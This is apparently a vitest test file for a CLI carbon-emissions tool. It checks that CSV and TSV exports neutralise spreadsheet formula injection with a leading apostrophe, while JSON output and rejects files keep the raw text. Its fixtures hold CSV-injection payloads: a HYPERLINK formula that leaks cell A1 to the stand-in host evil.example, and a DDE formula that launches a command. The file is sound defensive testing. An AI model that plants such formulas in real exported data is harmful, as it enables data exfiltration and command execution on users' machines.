/**
 * CSV and TSV data outputs (list, get, export) never hand a spreadsheet a formula: text cells
 * starting with = + - @ get a leading '. Numbers stay numbers; rejects files keep the cells as
 * they were read, so they import again. Runs the commands on a real database file.
 */
import fs from "node:fs";
import path from "node:path";
import { parse } from "csv-parse/sync";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { runImport } from "../../../src/cli/commands/consumptions/import.js";
import { runExport } from "../../../src/cli/commands/emissions/export.js";
import { categoryId } from "../../../src/core/ids.js";
import { runList as runBuildings } from "../buildings/runs.js";
import { runGet, runList } from "../companies/runs.js";
import { databaseContexts, tempDir } from "../helpers.js";

const COMPANY = "6b1f0c3e-8a52-4f0e-9d7a-2f4c1e5b7a90";
const BUILDING = "8d2e4f6a-1b3c-4d5e-8f7a-9b0c1d2e3f4a";
const LINK = '=HYPERLINK("http://evil.example/?"&A1,"invoice")';
const CMD = "+cmd|' /C calc'!A0";
const SUM = "@SUM(1+1)";
const DASH = "-2+3";

let contexts: ReturnType<typeof databaseContexts>;

beforeEach(async () => {
  contexts = databaseContexts();
  const service = await contexts.ctx().service();
  await service.companies.upsert({ id: COMPANY, name: LINK, country: "ES" });
  await service.buildings.upsert({ id: BUILDING, companyId: COMPANY, name: CMD, country: "ES" });
  await service.customFactors.upsert({
    id: "0d1e2f3a-4b5c-4d6e-8f70-8192a3b4c5d6",
    companyId: COMPANY,
    categoryId: categoryId("electricity"),
    unit: "kWh",
    co2e: 0.25,
    source: SUM,
  });
  await service.consumptions.upsert({
    id: "1e2f3a4b-5c6d-4e7f-8a91-a2b3c4d5e6f7",
    entityId: DASH,
    categoryId: categoryId("electricity"),
    startDate: "2024-01-01",
    endDate: "2024-01-31",
    companyId: COMPANY,
    buildingId: BUILDING,
    quantity: 1000,
    unitType: "kWh",
  });
});
afterEach(async () => {
  await contexts.closeAll();
});

function cells(text: string, delimiter: string): string[][] {
  return parse(text, { delimiter, relax_quotes: true, skip_empty_lines: true });
}

describe("formula-leading text in csv and tsv outputs", () => {
  it.each([
    ["csv", ","],
    ["tsv", "\t"],
  ] as const)(
    "companies list and get (%s): the name gets a leading '",
    async (format, delimiter) => {
      const list = contexts.ctx({ format });
      await runList(list, { all: true });
      expect(cells(list.io.stdoutText(), delimiter)[1]?.[1]).toBe(`'${LINK}`);
      const get = contexts.ctx({ format });
      await runGet(get, { id: COMPANY });
      expect(cells(get.io.stdoutText(), delimiter)[1]?.[1]).toBe(`'${LINK}`);
      const buildings = contexts.ctx({ format });
      await runBuildings(buildings, { all: true });
      expect(buildings.io.stdoutText()).toContain(`'${CMD}`);
    },
  );

  it("emissions export --format csv: the factor source gets a '; figures stay numbers", async () => {
    const ctx = contexts.ctx({ format: "csv" });
    await runExport(ctx, { company: COMPANY });
    const [record] = parse(ctx.io.stdoutText(), { columns: true }) as Record<string, string>[];
    expect(record?.factorSource).toBe(`'${SUM}`);
    expect(record?.co2e).toBe("250");
  });

  it("json keeps the raw text", async () => {
    const ctx = contexts.ctx({ json: true });
    await runList(ctx, { all: true });
    expect(JSON.parse(ctx.io.stdoutText())).toMatchObject([{ name: LINK }]);
  });

  it("a rejects file keeps the cells as they were read, so it imports again", async () => {
    const dir = tempDir();
    const file = path.join(dir, "bills.csv");
    fs.writeFileSync(
      file,
      `entityId,building,category,startDate,endDate,quantity,unit\n${SUM},Nowhere,electricity,2024-02-01,2024-02-29,10,kWh\n`,
    );
    const rejects = path.join(dir, "rejected.csv");
    const ctx = contexts.ctx();
    await expect(
      runImport(ctx, {
        file,
        company: COMPANY,
        dryRun: false,
        rejects,
        decimalComma: false,
        skipInvalid: false,
        createBuildings: false,
      }),
    ).rejects.toMatchObject({ code: "validation" });
    expect(fs.readFileSync(rejects, "utf8").split("\n")[1]).toMatch(/^@SUM\(1\+1\),Nowhere,/);
  });
});
